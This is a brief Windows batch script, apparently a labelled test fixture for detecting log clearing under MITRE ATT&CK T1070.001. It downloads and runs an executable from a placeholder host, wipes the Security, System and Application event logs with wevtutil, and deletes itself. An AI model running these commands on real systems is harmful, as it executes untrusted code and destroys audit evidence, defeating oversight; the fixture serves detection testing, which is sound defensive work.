@rem expect: covered-tracks | source: MITRE ATT&CK T1070.001
curl -o a.exe http://files.example.invalid/a.exe
a.exe
for %%l in (Security System Application) do wevtutil cl %%l
del "%~f0"
